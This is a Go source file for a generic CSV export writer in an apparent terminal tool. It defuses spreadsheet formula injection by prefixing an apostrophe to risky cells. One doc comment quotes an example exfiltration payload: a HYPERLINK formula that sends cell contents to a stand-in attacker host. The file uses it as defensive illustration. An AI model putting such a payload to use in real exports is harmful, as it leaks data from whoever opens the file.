package export

import (
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"strings"

	"github.com/hyperline-tui/hlx/hyperline/termsafe"
)

// CSV writes items as CSV (RFC 4180, comma-separated, LF line ends): a
// header line with the column names, then one row per item. It holds no
// item after Write returns.
//
// Formula injection: a spreadsheet that opens the file runs any cell that
// starts with "=", "+", "-" or "@" as a formula (and some treat a leading
// tab or carriage return the same way), so a customer named
// `=HYPERLINK("https://evil.example/?"&A2, "Click")` would run on the
// support person's machine. As OWASP's "CSV Injection" page recommends,
// every cell that came from the API and starts with one of those
// characters is written with a leading apostrophe ('), which spreadsheets
// read as "this is text" and do not show. The cell then differs from the
// API's value by that apostrophe; the JSON export keeps the exact value.
// Columns marked Formatted (amounts and dates hlx writes itself) are left
// alone, so "-3.00" stays a number.
type CSV[T any] struct {
	w       *csv.Writer
	cols    []Column[T]
	opts    options
	row     []string
	started bool
	closed  bool
	n       int
}

// NewCSV returns a CSV writer of items to w with the given columns, e.g.
// NewCSV(f, CustomerColumns()).
func NewCSV[T any](w io.Writer, cols []Column[T], opts ...Option) *CSV[T] {
	return &CSV[T]{w: csv.NewWriter(w), cols: cols, opts: buildOptions(opts), row: make([]string, len(cols))}
}

// Write adds one item as a row, after the header if it is the first.
func (c *CSV[T]) Write(item T) error {
	if c.closed {
		return errors.New("export: write to a closed CSV")
	}
	if err := c.header(); err != nil {
		return err
	}
	for i, col := range c.cols {
		v := col.Value(item)
		// Defuse first: termsafe turns a leading TAB or CR into a space,
		// which would hide the formula from defuseFormula.
		if !col.Formatted {
			v = defuseFormula(v)
		}
		if c.opts.terminal {
			v = termsafe.Line(v)
		}
		c.row[i] = v
	}
	if err := c.w.Write(c.row); err != nil {
		return fmt.Errorf("export: write CSV row %d: %w", c.n+1, err)
	}
	c.n++
	return nil
}

// Close writes the header if no item came, and flushes. It does not close
// the io.Writer.
func (c *CSV[T]) Close() error {
	if c.closed {
		return nil
	}
	c.closed = true
	if err := c.header(); err != nil {
		return err
	}
	c.w.Flush()
	if err := c.w.Error(); err != nil {
		return fmt.Errorf("export: write CSV: %w", err)
	}
	return nil
}

// Count is the number of rows written so far, the header not included.
func (c *CSV[T]) Count() int { return c.n }

func (c *CSV[T]) header() error {
	if c.started {
		return nil
	}
	c.started = true
	names := make([]string, len(c.cols))
	for i, col := range c.cols {
		names[i] = col.Name
	}
	if err := c.w.Write(names); err != nil {
		return fmt.Errorf("export: write CSV header: %w", err)
	}
	return nil
}

// formulaStarts are the first characters that make a spreadsheet read a
// cell as a formula (OWASP, "CSV Injection").
const formulaStarts = "=+-@\t\r"

// defuseFormula puts an apostrophe before a cell a spreadsheet would run.
func defuseFormula(s string) string {
	if s != "" && strings.IndexByte(formulaStarts, s[0]) >= 0 {
		return "'" + s
	}
	return s
}
